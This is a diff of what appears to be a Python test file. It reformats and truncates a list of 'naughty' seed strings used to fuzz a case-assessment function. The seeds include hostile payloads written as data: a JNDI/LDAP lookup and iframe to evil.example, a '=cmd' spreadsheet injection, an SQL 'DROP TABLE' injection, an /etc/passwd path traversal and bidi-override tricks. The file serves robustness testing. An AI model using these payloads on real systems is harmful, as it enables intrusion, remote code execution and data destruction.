@@ -29,14 +29,17 @@ SEEDS = (
     "</textarea><iframe src=//evil.example/{n}>", "&lt;script&gt;{n}&#60;b&#62;", "{{{{7*{n}}}}}",
     "${{jndi:ldap://evil.example/{n}}}", "[x{n}](javascript:alert(1))", "![i{n}](http://evil/p.png)",
     "[a{n}]: http://evil.example 'x'", "<http://evil.example/{n}>", "www.evil.example/{n}",
-    "http://evil.example/{n}", "# heading {n}", "---\nyaml: {n}\n---", "| a{n} | b |\n|---|---|\n| 1 | 2 |",
+    "http://evil.example/{n}", "# heading {n}", "---\nyaml: {n}\n---",
+    "| a{n} | b |\n|---|---|\n| 1 | 2 |",
     "```\ncode {n}\n```", "`{n}`` `", "*{n}* _b_ **c** ~~d~~", "1. one {n}\n2) two", "> quote {n}",
     "- [ ] task {n}", "$x_{n}$ $$y$$", "#set page({n})", "#eval(\"{n}\") @ref <label>", "\\{n}\\\\",
     "{n}\u202eevil\u202c", "{n}\u2066isolate\u2069", "\u200f{n}\u200e", "{n}\U000e0041\U000e0042",
     "e\u0301\u0301 {n}", "\u0627\u0644\u0639{n}", "漢字{n}", "🏴👩‍👩‍👧 {n}", "ﷺ{n}", "﷽ {n}",
     "=cmd|' /C calc'!A{n}", "+{n}", "-{n}", "@SUM({n})", "'; DROP TABLE cases; -- {n}", "%s%n{n}",
-    "../../etc/passwd{n}", "CON{n}", "NULL{n}", "undefined {n}", "NaN {n}", "1e{n}", "0x{n}", "true{n}",
-    "\"quoted {n}\"", "'{n}'", "a" * 300 + "{n}", "x {n}\n\n\n    indented", "tab\t{n}", "a &amp; {n}",
+    "../../etc/passwd{n}", "CON{n}", "NULL{n}", "undefined {n}", "NaN {n}", "1e{n}",
+    "0x{n}", "true{n}",
+    "\"quoted {n}\"", "'{n}'", "a" * 300 + "{n}", "x {n}\n\n\n    indented",
+    "tab\t{n}", "a &amp; {n}",
 )  # fmt: skip
 NAUGHTY = [seed.format(n=n) for n in range(9) for seed in SEEDS][:510]
 BATCHES = [NAUGHTY[i : i + len(FIELDS)] for i in range(0, len(NAUGHTY), len(FIELDS))]
@@ -45,8 +48,8 @@ BATCHES = [NAUGHTY[i : i + len(FIELDS)] for i in range(0, len(NAUGHTY), len(FIEL
 def framing_with(words: list[str]) -> Framing:
     """A case in which each field holds one of these, over and over."""
     said = {field: words[i % len(words)] for i, field in enumerate(FIELDS)}
-    override = {"verdict": "stop", "by": said["by"], "reason": said["reason"]}
-    about: dict[str, Any] = {key: said[key] for key in ("title", "author", "owner")}
+    override = {"verdict": "stop", "by": said["by"][:150], "reason": said["reason"]}
+    about: dict[str, Any] = {key: said[key][:150] for key in ("title", "author", "owner")}
     texts = {name: said[name] for name in TEXTS}
     return assess({**CHURN, **texts}, AS_OF, about={**about, "override": override})
 
